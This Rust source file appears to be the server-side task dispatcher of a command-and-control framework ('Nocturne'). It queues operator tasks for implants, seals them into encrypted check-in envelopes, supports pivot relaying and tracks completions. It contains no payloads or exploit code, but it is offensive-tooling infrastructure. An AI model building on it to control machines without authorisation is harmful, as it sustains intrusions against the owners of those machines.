use crate::config::TaskingConfig;
use crate::protocol::codec::{self, Frame};
use crate::protocol::types::{AgentData, ConsoleMessageData, TaskData};
use crate::{crypto, NocturneError, Result};
use bytes::BytesMut;
use chrono::Utc;
use dashmap::DashMap;
use parking_lot::Mutex;
use std::collections::{HashMap, VecDeque};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::oneshot;

/// Per-agent ordered task state. One writer at a time per agent; different
/// agents lock independently so a stuck agent never stalls another's
/// check-in.
#[derive(Default)]
struct AgentQueue {
    /// Queued, not yet packed into an envelope. FIFO.
    pending: VecDeque<TaskData>,
    /// Packed and sent, awaiting a completion record by task id.
    outstanding: HashMap<String, TaskData>,
    /// Sync waiters, signalled exactly once on completion.
    waiters: HashMap<String, oneshot::Sender<TaskData>>,
    /// Completed, held until the archive sweep.
    archived: Vec<TaskData>,
}

/// Records decoded from one check-in envelope, split by who handles them.
#[derive(Debug, Default)]
pub struct ProcessedData {
    /// Console notifications for the issuing operator
    pub console_messages: Vec<ConsoleMessageData>,
    /// Agent-initiated records (tunnel/terminal frames) routed by the caller
    pub unsolicited: Vec<TaskData>,
}

pub struct TaskDispatcher {
    tasking: TaskingConfig,
    queues: DashMap<String, Arc<Mutex<AgentQueue>>>,
    orphan_responses: AtomicU64,
}

impl TaskDispatcher {
    pub fn new(tasking: TaskingConfig) -> Self {
        Self {
            tasking,
            queues: DashMap::new(),
            orphan_responses: AtomicU64::new(0),
        }
    }

    pub fn register_agent(&self, agent_id: &str) {
        self.queues
            .entry(agent_id.to_string())
            .or_insert_with(|| Arc::new(Mutex::new(AgentQueue::default())));
    }

    /// Drop an agent's queue state. Outstanding sync waiters observe the
    /// teardown as `Cancelled`.
    pub fn remove_agent(&self, agent_id: &str) {
        if let Some((_, queue)) = self.queues.remove(agent_id) {
            let mut queue = queue.lock();
            queue.waiters.clear();
            let dropped = queue.pending.len() + queue.outstanding.len();
            if dropped > 0 {
                tracing::info!(agent_id = %agent_id, dropped = dropped, "Agent removed with tasks in flight");
            }
        }
    }

    fn queue(&self, agent_id: &str) -> Arc<Mutex<AgentQueue>> {
        self.queues
            .entry(agent_id.to_string())
            .or_insert_with(|| Arc::new(Mutex::new(AgentQueue::default())))
            .clone()
    }

    /// Append a fire-and-forget task to the agent's queue.
    pub fn enqueue(&self, task: TaskData) {
        let queue = self.queue(&task.agent_id);
        tracing::debug!(
            task_id = %task.task_id,
            agent_id = %task.agent_id,
            task_type = task.task_type,
            "Task queued"
        );
        queue.lock().pending.push_back(task);
    }

    /// Append a synchronous task and hand back the completion receiver. The
    /// caller applies its own timeout via [`wait_completion`].
    pub fn enqueue_sync(&self, mut task: TaskData) -> oneshot::Receiver<TaskData> {
        task.sync = true;
        let (tx, rx) = oneshot::channel();
        let queue = self.queue(&task.agent_id);
        let mut queue = queue.lock();
        queue.waiters.insert(task.task_id.clone(), tx);
        queue.pending.push_back(task);
        rx
    }

    /// Resolve a sync waiter. Expiry yields `Timeout`, a dropped sender
    /// (agent torn down, waiter cancelled) yields `Cancelled`. Neither
    /// removes the task itself: the implant may still report it, and the
    /// late response is then counted as an orphan.
    pub async fn wait_completion(
        &self,
        rx: oneshot::Receiver<TaskData>,
        wait: Option<Duration>,
    ) -> Result<TaskData> {
        let wait = wait.unwrap_or(Duration::from_secs(self.tasking.sync_wait_seconds));
        match tokio::time::timeout(wait, rx).await {
            Ok(Ok(task)) => Ok(task),
            Ok(Err(_)) => Err(NocturneError::Cancelled),
            Err(_) => Err(NocturneError::Timeout),
        }
    }

    /// Remove a sync waiter without touching the queued task. Used when the
    /// issuing console disconnects mid-wait.
    pub fn cancel_waiter(&self, agent_id: &str, task_id: &str) {
        if let Some(queue) = self.queues.get(agent_id) {
            queue.lock().waiters.remove(task_id);
        }
    }

    /// Drain pending tasks for a check-in into one sealed envelope. FIFO
    /// order is preserved; the drain stops at the configured task-count or
    /// byte budget, but always ships at least one pending task.
    pub fn pack_tasks(&self, agent: &AgentData) -> Result<Vec<u8>> {
        let plain = self.pack_plain(&agent.id)?;
        crypto::seal(&plain, &agent.session_key)
    }

    /// The batch itself, before the envelope. Pivot relaying packs a
    /// child's batch here and seals it for the child's hop separately.
    pub fn pack_plain(&self, agent_id: &str) -> Result<Vec<u8>> {
        let queue = self.queue(agent_id);
        let mut buf = BytesMut::new();
        let mut packed = 0usize;

        {
            let mut queue = queue.lock();
            while packed < self.tasking.max_batch_tasks {
                let Some(task) = queue.pending.pop_front() else {
                    break;
                };

                // Budget-check the record at its full encoded size, header
                // and string fields included, not just the data payload
                let mut encoded = BytesMut::new();
                if let Err(e) = codec::encode_task(&task, &mut encoded) {
                    queue.pending.push_front(task);
                    return Err(e);
                }
                if packed > 0 && buf.len() + encoded.len() > self.tasking.max_batch_bytes {
                    queue.pending.push_front(task);
                    break;
                }

                buf.extend_from_slice(&encoded);
                queue.outstanding.insert(task.task_id.clone(), task);
                packed += 1;
            }
        }

        if packed > 0 {
            tracing::debug!(agent_id = %agent_id, tasks = packed, bytes = buf.len(), "Packed task batch");
        }
        Ok(buf.to_vec())
    }

    /// Decode one decrypted check-in buffer and resolve completions.
    /// Unmatched completion ids are logged and counted, never fatal:
    /// duplicate delivery and retransmission are expected.
    pub fn process_data(&self, agent: &AgentData, decrypted: &[u8]) -> Result<ProcessedData> {
        let frames = codec::decode_all(decrypted)?;
        let mut out = ProcessedData::default();
        let queue = self.queue(&agent.id);

        for frame in frames {
            match frame {
                Frame::Console(msg) => out.console_messages.push(msg),
                Frame::Task(task) if task.completed => {
                    self.resolve_completion(&queue, agent, task);
                }
                Frame::Task(task) => out.unsolicited.push(task),
            }
        }

        Ok(out)
    }

    fn resolve_completion(&self, queue: &Mutex<AgentQueue>, agent: &AgentData, response: TaskData) {
        let mut queue = queue.lock();
        let Some(mut task) = queue.outstanding.remove(&response.task_id) else {
            let total = self.orphan_responses.fetch_add(1, Ordering::Relaxed) + 1;
            tracing::warn!(
                task_id = %response.task_id,
                agent_id = %agent.id,
                orphans = total,
                "Orphan response dropped"
            );
            return;
        };

        task.data = response.data;
        task.message_type = response.message_type;
        task.message = response.message;
        task.clear_text = response.clear_text;
        task.completed = true;
        task.finish_date = Utc::now().timestamp().max(task.start_date);

        if let Some(waiter) = queue.waiters.remove(&task.task_id) {
            // Receiver may already be gone (timeout/cancel); that is fine
            let _ = waiter.send(task.clone());
        }

        tracing::info!(task_id = %task.task_id, agent_id = %agent.id, "Task completed");
        queue.archived.push(task);
    }

    pub fn orphan_count(&self) -> u64 {
        self.orphan_responses.load(Ordering::Relaxed)
    }

    pub fn pending_count(&self, agent_id: &str) -> usize {
        self.queues
            .get(agent_id)
            .map(|q| q.lock().pending.len())
            .unwrap_or(0)
    }

    pub fn outstanding_count(&self, agent_id: &str) -> usize {
        self.queues
            .get(agent_id)
            .map(|q| q.lock().outstanding.len())
            .unwrap_or(0)
    }

    /// Drop archived completions older than the cutoff. Called by the
    /// maintenance sweep.
    pub fn archive_sweep(&self, older_than: Duration) -> usize {
        let cutoff = Utc::now().timestamp() - older_than.as_secs() as i64;
        let mut removed = 0;

        for entry in self.queues.iter() {
            let mut queue = entry.value().lock();
            let before = queue.archived.len();
            queue.archived.retain(|t| t.finish_date > cutoff);
            removed += before - queue.archived.len();
        }

        removed
    }

    pub fn statistics(&self) -> DispatcherStatistics {
        let mut stats = DispatcherStatistics {
            agents: self.queues.len(),
            orphan_responses: self.orphan_count(),
            ..Default::default()
        };
        for entry in self.queues.iter() {
            let queue = entry.value().lock();
            stats.pending_tasks += queue.pending.len();
            stats.outstanding_tasks += queue.outstanding.len();
            stats.archived_tasks += queue.archived.len();
        }
        stats
    }
}

#[derive(Debug, Clone, Default)]
pub struct DispatcherStatistics {
    pub agents: usize,
    pub pending_tasks: usize,
    pub outstanding_tasks: usize,
    pub archived_tasks: usize,
    pub orphan_responses: u64,
}
